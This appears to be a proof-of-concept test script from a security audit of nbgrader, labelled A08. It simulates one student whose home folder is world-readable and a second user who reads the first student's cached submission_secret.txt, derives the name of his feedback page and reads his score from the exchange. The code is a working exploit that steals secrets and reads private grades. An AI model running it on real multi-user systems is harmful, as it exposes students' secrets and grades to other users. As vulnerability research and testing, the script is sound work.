"""A08: no grading window needed. nbgrader submit keeps a copy of each hand-in, submission_secret.txt included, in the
student's cache (~/.local/share/jupyter/nbgrader_cache/<course>/<student>+<assignment>+<time>/), made with her umask
(022: folders 0755, files 0644). Where home folders are readable by others (useradd's default on this Debian: no
HOME_MODE, UMASK 022 -> /home/bob48 is 0755), eve48 reads bob48's secret there, names his page and reads it from the
exchange once the TA releases feedback; with a04 she also takes his page's slot."""
import os, subprocess, shutil, sys, time, glob, re
sys.path.insert(0, os.path.dirname(__file__))
from harness import nb_for, grade, scores, CLONE
import nbformat
NB = f"{CLONE}/.venv/bin/nbgrader"
base = "/tmp/attack48-user-ex3"; root = f"{base}/exchange"; ta = f"{base}/course"; X = f"--Exchange.root={root}"
def as_user(uid, cmd, cwd, home, show=True):
    env = {"PATH": f"{CLONE}/.venv/bin:/usr/bin:/bin", "HOME": home, "LANG": "C.UTF-8"}
    r = subprocess.run(["setpriv", "--reuid", str(uid), "--regid", str(uid), "--clear-groups"] + cmd, cwd=cwd, env=env,
                       capture_output=True, text=True, timeout=600)
    if show: print(f"[uid {uid}] {' '.join(cmd[1:4])} rc={r.returncode}\n   " + (r.stdout + r.stderr).strip().replace("\n", "\n   ")[-900:])
    return r
print(subprocess.run(["ls", "-ld", "/home/bob48"], capture_output=True, text=True).stdout)
# bob, an honest student in his real home (HOME=/home/bob48), submits again
as_user(2482, [NB, "submit", "ps1_memory", X, "--course", "distcourse"], "/home/bob48/work", "/home/bob48")
# eve, any time later, as herself
steal = r'''
import glob
from nbgrader.utils import notebook_hash
for f in glob.glob("/home/*/.local/share/jupyter/nbgrader_cache/*/*/submission_secret.txt"):
    try:
        s = open(f).read()
    except OSError as e:
        print("eve cannot read", f, e.strerror); continue
    print("eve read", f, "->", s[:12] + "...", "page", notebook_hash(secret=s, notebook_id="ps1_memory"))
'''
r = as_user(2481, [f"{CLONE}/.venv/bin/python", "-c", steal], "/home/eve48/work", "/home/eve48/work")
names = re.findall(r"/home/bob48/\S*.*?-> \S+ page (\w+)", r.stdout)
time.sleep(1)
as_user(65534, [NB, "collect", "ps1_memory", X, "--update"], ta, "/tmp/attack48-user-home")
g = grade(ta, "ps1_memory", ("--regrade",), quiet=True); scores(ta, "ps1_memory")
as_user(65534, [NB, "release_feedback", "ps1_memory", X], ta, "/tmp/attack48-user-home")
for n in names:
    r = as_user(2481, ["/bin/sh", "-c", f"wc -c {root}/distcourse/feedback/{n}.html; grep -o 'ps1_memory (Score: [0-9.]* / [0-9.]*)' {root}/distcourse/feedback/{n}.html"],
                "/home/eve48/work", "/home/eve48/work")
